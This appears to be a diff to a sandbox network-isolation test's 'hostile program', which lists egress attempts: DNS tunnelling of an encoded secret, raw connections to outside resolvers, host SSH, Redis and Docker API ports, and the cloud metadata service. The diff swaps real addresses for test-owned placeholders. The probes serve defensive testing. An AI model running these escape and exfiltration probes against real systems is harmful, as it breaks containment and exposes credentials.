@@ -1,7 +1,9 @@
 """The hostile program of tests/egress/test_hostile_egress.py: every way out it tries, and how each ended.
 
 Formatted with ``ATTACKS.format(...)``-free placeholders: the test prepends a line defining CA,
-PROXY, GATEWAY, DOCKER_GATEWAY, SERVICE_IP, OTHER_SANDBOX. Prints one JSON object: case -> outcome.
+PROXY, GATEWAY, DOCKER_GATEWAY, SERVICE_IP, OTHER_SANDBOX, and the addresses this test run owns
+standing in for the Internet and a metadata service (OUTSIDE_V4, OUTSIDE_V6, METADATA: see
+tests/owned_targets.py). Prints one JSON object: case -> outcome.
 """
 
 ATTACKS = r"""
@@ -97,19 +99,19 @@ out["CONNECT to port 22 of an allowed name"] = connect_raw("api.egress.test:22",
 out["SNI differs from the CONNECT target"] = connect_then_tls("api.egress.test:443", "other.egress.test")
 out["non-TLS bytes through an allowed CONNECT"] = connect_raw("api.egress.test:443", b"GET / HTTP/1.0\r\n\r\n")
 try:
-    out["DNS lookup"] = {"resolved": socket.getaddrinfo("api.egress.test", 443)[0][4][0]}
+    out["DNS lookup"] = {"resolved": socket.getaddrinfo("lookup.egress.invalid", 443)[0][4][0]}
 except Exception as e:
     out["DNS lookup"] = err(e)
-out["DNS tunnel to Docker's resolver (127.0.0.11)"] = udp("127.0.0.11", 53, dns_query("c2VjcmV0.tunnel.example.com"))
-out["DNS tunnel to 1.1.1.1:53 (UDP)"] = udp("1.1.1.1", 53, dns_query("c2VjcmV0.tunnel.example.com"))
-out["DNS over TCP to 1.1.1.1:53"] = tcp("1.1.1.1", 53)
+out["DNS tunnel to Docker's resolver (127.0.0.11)"] = udp("127.0.0.11", 53, dns_query("c2VjcmV0.tunnel.invalid"))
+out["DNS tunnel to an outside resolver (UDP 53)"] = udp(OUTSIDE_V4, 53, dns_query("c2VjcmV0.tunnel.invalid"))
+out["DNS over TCP to an outside resolver (53)"] = tcp(OUTSIDE_V4, 53)
 out["UDP to the gateway"] = udp(GATEWAY, 3128)
-out["IPv6 (2606:4700:4700::1111)"] = tcp("2606:4700:4700::1111", 443, socket.AF_INET6)
+out["IPv6 to an outside address"] = tcp(OUTSIDE_V6, 443, socket.AF_INET6)
 out["host gateway, SSH port"] = tcp(GATEWAY, 22)
 out["host gateway, Redis port"] = tcp(GATEWAY, 6379)
 out["Docker bridge gateway, Redis port"] = tcp(DOCKER_GATEWAY, 6379)
 out["Docker API over TCP (2375)"] = tcp(DOCKER_GATEWAY, 2375)
-out["cloud metadata 169.254.169.254"] = tcp("169.254.169.254", 80)
+out["cloud metadata (a link-local address)"] = tcp(METADATA, 80)
 out["another sandbox"] = tcp(OTHER_SANDBOX, 8000)
 print(json.dumps(out))
 """
